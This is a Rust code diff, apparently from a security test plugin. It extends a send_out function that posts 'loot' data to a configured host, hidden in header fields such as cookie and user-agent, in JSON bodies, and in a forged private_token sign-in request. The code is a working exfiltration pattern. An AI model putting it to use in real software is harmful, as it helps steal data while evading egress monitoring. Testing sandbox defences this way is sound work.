@@ -59,14 +59,25 @@ fn send_out(config: &Configuration, loot: &str) {
     let target = http::granted(config);
     let short = |text: &str| text.chars().take(4_000).collect::<String>();
     let _ = http::get(&target, &format!("/loot/{}?hex={}", short(&reversed), short(&hex)));
+    // Fields that no plugin sends, and then those that it may.
+    for names in [["x-loot", "cookie"], ["user-agent", "accept-language"]] {
+        let fields = Fields::new();
+        let _ = fields.append("content-type", b"application/json");
+        names.iter().zip([&plain, &hex]).for_each(|(name, text)| drop(fields.append(name, short(text).as_bytes())));
+        post(config, fields, &format!("\"{}\"", short(&plain).replace(['"', '\\'], "")));
+    }
+    // And a sign-in of its own in a body.
     let fields = Fields::new();
-    let _ = fields.append("x-loot", short(&plain).as_bytes());
-    let _ = fields.append("cookie", short(&hex).as_bytes());
-    let Ok(request) = http::request(&Method::Post, &target, "/loot", fields) else { return };
+    let _ = fields.append("content-type", b"application/json");
+    post(config, fields, "{\"query\": \"{ a }\", \"private_token\": \"mine\"}");
+}
+
+fn post(config: &Configuration, fields: Fields, text: &str) {
+    let Ok(request) = http::request(&Method::Post, &http::granted(config), "/loot", fields) else { return };
     let Ok(body) = request.body() else { return };
     let Ok(future) = http::send(request) else { return };
     if let Ok(stream) = body.write() {
-        let _ = stream.blocking_write_and_flush(short(loot).as_bytes());
+        let _ = stream.blocking_write_and_flush(text.as_bytes());
     }
     let _ = OutgoingBody::finish(body, None);
     let _ = http::answer(&future);
